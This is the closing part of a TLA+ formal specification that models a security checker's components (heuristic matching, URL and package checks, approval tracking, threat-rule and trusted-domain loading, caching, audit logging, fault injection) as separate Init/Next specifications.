engineOthers == <<trackerVars, allowlistVars, limitVars, packageVars, hookVars, laterVars>>
trackerOthers == <<engineVars, allowlistVars, limitVars, packageVars, hookVars, laterVars>>
allowlistOthers == <<engineVars, limitVars, packageVars, hookVars, laterVars>>
limitOthers == <<engineVars, trackerVars, allowlistVars, packageVars, hookVars, laterVars>>
packageOthers == <<engineVars, trackerVars, allowlistVars, limitVars, hookVars, laterVars>>
hookOthers == <<engineVars, trackerVars, allowlistVars, limitVars, laterVars>>

InitEngine == EngineInit /\ TrackerInit /\ AllowlistInit /\ LimitIdle /\ CheckIdle /\ HookIdle /\ LaterIdle

NextEngine ==
    \/ \E m \in SampleMatches : AddHeuristicMatch(m) /\ UNCHANGED engineOthers
    \/ \E r \in SampleUrlResults : AddUrlCheckResult(r) /\ UNCHANGED engineOthers
    \/ \E p \in SamplePackageResults : AddPackageCheckResult(p) /\ UNCHANGED engineOthers
    \/ Decide /\ UNCHANGED engineOthers

SpecEngine == InitEngine /\ [][NextEngine]_vars

InitTracker == EngineIdle /\ TrackerInit /\ AllowlistInit /\ LimitIdle /\ CheckIdle /\ HookIdle /\ LaterIdle

NextTracker ==
    \/ Tick(MaxTime) /\ UNCHANGED trackerOthers
    \/ \E id \in ToolUseIds, a \in TrackerApprovals :
          AddPendingApproval(id, a) /\ UNCHANGED trackerOthers
    \/ \E id \in ToolUseIds : ConsumePendingApproval(id) /\ UNCHANGED trackerOthers
    \/ \E t \in ArtifactTypes, v \in TrackerValues :
          FindConsumedApproval(t, v) /\ UNCHANGED trackerOthers
    \/ \E t \in ArtifactTypes, v \in TrackerValues :
          RemoveConsumedApproval(t, v) /\ UNCHANGED trackerOthers

SpecTracker == InitTracker /\ [][NextTracker]_vars

InitAllowlist == EngineIdle /\ TrackerInit /\ AllowlistInit /\ LimitIdle /\ CheckIdle /\ HookIdle /\ LaterIdle

NextAllowlist ==
    \/ Tick(MaxClock) /\ UNCHANGED <<allowlistVars, allowlistOthers>>
    \/ \E id \in AllowlistIds, a \in SampleApprovals :
          /\ Total(approvals) < MaxApprovals
          /\ AddPendingApproval(id, a) /\ UNCHANGED <<allowlistVars, allowlistOthers>>
    \/ \E id \in AllowlistIds : Approve(id) /\ UNCHANGED allowlistOthers
    \/ \E c \in Callers, t \in ArtifactTypes, v \in ArtifactValues :
          AddStart(c, t, v) /\ UNCHANGED allowlistOthers
    \/ \E c \in Callers : AddLoadAllowlist(c) /\ UNCHANGED allowlistOthers
    \/ \E c \in Callers : AddSaveAllowlist(c) /\ UNCHANGED allowlistOthers
    \/ \E c \in Callers : AddRemoveLoad(c) /\ UNCHANGED allowlistOthers
    \/ \E c \in Callers : AddRemoveSave(c) /\ UNCHANGED allowlistOthers

SpecAllowlist == InitAllowlist /\ [][NextAllowlist]_vars

InitLimit == EngineIdle /\ TrackerInit /\ AllowlistInit /\ LimitInit /\ CheckIdle /\ HookIdle /\ LaterIdle

NextLimit ==
    \/ StartCheck /\ UNCHANGED limitOthers
    \/ LoopEnd /\ UNCHANGED limitOthers
    \/ \E k \in 1..MaxPackages : FinishCheck(k) /\ UNCHANGED limitOthers
    \/ RaceResolves /\ UNCHANGED limitOthers
    \/ SweepStep /\ UNCHANGED limitOthers
    \/ AllSettled /\ UNCHANGED limitOthers

SpecLimit == InitLimit /\ [][NextLimit]_vars

InitPackage == EngineIdle /\ TrackerInit /\ AllowlistInit /\ LimitIdle /\ CheckIdle /\ HookIdle /\ LaterIdle

NextPackage ==
    \/ \E pkg \in SamplePackages, enabled \in BOOLEAN :
          CheckPackages(pkg, enabled) /\ UNCHANGED packageOthers
    \/ \E r \in RegistryResponses : RegistryResponds(r) /\ UNCHANGED packageOthers
    \/ \E r \in FileCheckResponses : FileCheckResponds(r) /\ UNCHANGED packageOthers
    \/ CheckReturns /\ UNCHANGED packageOthers

SpecPackage == InitPackage /\ [][NextPackage]_vars

InitHook == EngineIdle /\ TrackerInit /\ AllowlistInit /\ LimitIdle /\ CheckIdle /\ HookIdle /\ LaterIdle

NextHook ==
    \/ \E payload \in Payloads, faults \in Faults :
          HookStart(payload, faults) /\ UNCHANGED hookOthers
    \/ HookCheckPackages /\ UNCHANGED hookOthers
    \/ \E r \in RegistryResponses : HookRegistryResponds(r) /\ UNCHANGED hookOthers
    \/ \E r \in FileCheckResponses : HookFileCheckResponds(r) /\ UNCHANGED hookOthers
    \/ HookDecide /\ UNCHANGED hookOthers
    \/ HookNext /\ UNCHANGED hookOthers

SpecHook == InitHook /\ [][NextHook]_vars

clawOthers == <<firstVars, cacheVars, auditVars, threatVars, roundTripVars, bumpVars, batchVars, trustVars,
    recentVars, faultVars>>

NextClaw ==
    \/ ClawTick /\ UNCHANGED clawOthers
    \/ \E id \in ActionIds, approved \in BOOLEAN :
          SageApprove(id, approved) /\ UNCHANGED clawOthers
    \/ \E e \in ToolCallEvents : BeforeToolCall(e) /\ UNCHANGED clawOthers
    \/ ClawRestart /\ UNCHANGED clawOthers

InitClaw == FirstIdle /\ LaterIdle

SpecClaw == InitClaw /\ [][NextClaw]_vars

cacheOthers == <<firstVars, clawVars, auditVars, threatVars, roundTripVars, bumpVars, batchVars, trustVars,
    recentVars, faultVars>>

NextCache ==
    \/ CacheTick /\ UNCHANGED cacheOthers
    \/ \E config \in CacheConfigs : CacheConstruct(config) /\ UNCHANGED cacheOthers
    \/ CacheSave /\ UNCHANGED cacheOthers
    \/ \E u \in CacheUrls : CacheFileWritten(u) /\ UNCHANGED cacheOthers
    \/ \E u \in CacheUrls, isMalicious \in BOOLEAN :
          PutUrl(u, isMalicious) /\ UNCHANGED cacheOthers
    \/ \E h \in CacheCommands, isMalicious \in BOOLEAN :
          PutCommand(h, isMalicious) /\ UNCHANGED cacheOthers
    \/ \E u \in CacheUrls : GetUrl(u) /\ UNCHANGED cacheOthers
    \/ \E h \in CacheCommands : GetCommand(h) /\ UNCHANGED cacheOthers

InitCache == FirstIdle /\ LaterIdle

SpecCache == InitCache /\ [][NextCache]_vars

auditOthers == <<firstVars, clawVars, cacheVars, threatVars, roundTripVars, bumpVars, batchVars, trustVars,
    recentVars, faultVars>>

NextAudit ==
    \/ \E config \in LoggingConfigs, d \in Decisions, o \in BOOLEAN, f \in BOOLEAN :
          LogVerdict(config, d, o, f) /\ UNCHANGED auditOthers
    \/ \E config \in LoggingConfigs, n \in {0, 1}, f \in BOOLEAN :
          LogPluginScan(config, n, f) /\ UNCHANGED auditOthers

InitAudit == FirstIdle /\ LaterIdle

SpecAudit == InitAudit /\ [][NextAudit]_vars

threatOthers == <<firstVars, clawVars, cacheVars, auditVars, roundTripVars, bumpVars, batchVars, trustVars,
    recentVars, faultVars>>

NextThreat ==
    \/ ThreatTick /\ UNCHANGED threatOthers
    \/ \E readable \in BOOLEAN : LoadThreatsStart(readable) /\ UNCHANGED threatOthers
    \/ \E kind \in FileKinds : LoadThreatsFile(kind) /\ UNCHANGED threatOthers
    \/ \E entry \in RuleEntries : LoadThreatsEntry(entry) /\ UNCHANGED threatOthers
    \/ LoadThreatsReturn /\ UNCHANGED threatOthers

InitThreat == FirstIdle /\ LaterIdle

SpecThreat == InitThreat /\ [][NextThreat]_vars

roundTripOthers == <<firstVars, clawVars, cacheVars, auditVars, threatVars, bumpVars, batchVars, trustVars,
    recentVars, faultVars>>

NextRoundTrip ==
    \/ \E u \in RoundTripUrls : RoundTripAdd(u) /\ UNCHANGED roundTripOthers
    \/ \E v \in RoundTripUrls : RoundTripProbe(v) /\ UNCHANGED roundTripOthers

InitRoundTrip == FirstIdle /\ LaterIdle

SpecRoundTrip == InitRoundTrip /\ [][NextRoundTrip]_vars

bumpOthers == <<firstVars, clawVars, cacheVars, auditVars, threatVars, roundTripVars, batchVars, trustVars,
    recentVars, faultVars>>

NextBump ==
    \/ \E i \in 1..Len(FILES), status \in {"missing", "malformed"} :
          ManifestDamaged(i, status) /\ UNCHANGED bumpOthers
    \/ \E version \in VersionArguments : BumpStart(version) /\ UNCHANGED bumpOthers
    \/ BumpFile /\ UNCHANGED bumpOthers
    \/ BumpEnd /\ UNCHANGED bumpOthers

InitBump == FirstIdle /\ LaterIdle

SpecBump == InitBump /\ [][NextBump]_vars

batchOthers == <<firstVars, clawVars, cacheVars, auditVars, threatVars, roundTripVars, bumpVars, trustVars,
    recentVars, faultVars>>

NextBatch ==
    \/ \E n \in 0..MaxHashes : CheckHashes(n) /\ UNCHANGED batchOthers
    \/ \E k \in 1..3, r \in BatchResponses : BatchResponds(k, r) /\ UNCHANGED batchOthers
    \/ CheckHashesReturns /\ UNCHANGED batchOthers
    \/ \E r \in FileCheckResponses : CheckHash(r) /\ UNCHANGED batchOthers

InitBatch == FirstIdle /\ LaterIdle

SpecBatch == InitBatch /\ [][NextBatch]_vars

trustOthers == <<firstVars, clawVars, cacheVars, auditVars, threatVars, roundTripVars, bumpVars, batchVars,
    recentVars, faultVars>>

NextTrust ==
    \/ \E readable \in BOOLEAN : LoadTrustedDomainsStart(readable) /\ UNCHANGED trustOthers
    \/ \E kind \in FileKinds : LoadTrustedDomainsFile(kind) /\ UNCHANGED trustOthers
    \/ \E entry \in TrustedEntries : LoadTrustedDomainsEntry(entry) /\ UNCHANGED trustOthers
    \/ LoadTrustedDomainsReturn /\ UNCHANGED trustOthers
    \/ \E domain \in ProbeDomains : IsTrustedDomain(domain) /\ UNCHANGED trustOthers

InitTrust == FirstIdle /\ LaterIdle

SpecTrust == InitTrust /\ [][NextTrust]_vars

recentOthers == <<firstVars, clawVars, cacheVars, auditVars, threatVars, roundTripVars, bumpVars,
    batchVars, trustVars, faultVars>>

NextRecent ==
    \/ \E kind \in {"json", "garbage", "blank"} : RecentAppend(kind) /\ UNCHANGED recentOthers
    \/ RecentCreate /\ UNCHANGED recentOthers
    \/ \E limit \in Limits : GetRecentEntries(limit) /\ UNCHANGED recentOthers

InitRecent == FirstIdle /\ LaterIdle

SpecRecent == InitRecent /\ [][NextRecent]_vars

faultOthers == <<engineVars, allowlistVars, limitVars, packageVars, hookVars, clawVars, cacheVars,
    auditVars, threatVars, roundTripVars, bumpVars, batchVars, trustVars, recentVars>>

NextFault ==
    \/ FaultTick /\ UNCHANGED faultOthers
    \/ \E id \in ToolUseIds, a \in TrackerApprovals, f \in PendingFaults :
          AddPendingApprovalCall(id, a, f) /\ UNCHANGED faultOthers
    \/ \E id \in ToolUseIds, f \in Faults4 :
          ConsumePendingApprovalCall(id, f) /\ UNCHANGED faultOthers
    \/ \E t \in ArtifactTypes, v \in TrackerValues, f \in ReadFaults :
          FindConsumedApprovalCall(t, v, f) /\ UNCHANGED faultOthers
    \/ \E t \in ArtifactTypes, v \in TrackerValues, f \in ConsumedFaults :
          RemoveConsumedApprovalCall(t, v, f) /\ UNCHANGED faultOthers

InitFault == FirstIdle /\ LaterIdle

SpecFault == InitFault /\ [][NextFault]_vars

NextRuleFields ==
    \/ ThreatTick /\ UNCHANGED threatOthers
    \/ \E readable \in BOOLEAN : LoadThreatsStart(readable) /\ UNCHANGED threatOthers
    \/ \E kind \in FileKinds : LoadThreatsFile(kind) /\ UNCHANGED threatOthers
    \/ \E entry \in FieldEntries : LoadThreatsEntry(entry) /\ UNCHANGED threatOthers
    \/ LoadThreatsReturn /\ UNCHANGED threatOthers

InitRuleFields == FirstIdle /\ LaterIdle

SpecRuleFields == InitRuleFields /\ [][NextRuleFields]_vars


InitCheckPackages == EngineIdle /\ TrackerInit /\ AllowlistInit /\ CheckPackagesInit /\ CheckIdle /\ HookIdle /\ LaterIdle

\* Every request of a check ends by its timeout at the latest, and the event
\* loop resumes a continuation that is ready: a step that can be taken is taken
SpecCheckPackages == InitCheckPackages /\ [][NextLimit]_vars /\ WF_vars(NextLimit)

=========================================================================
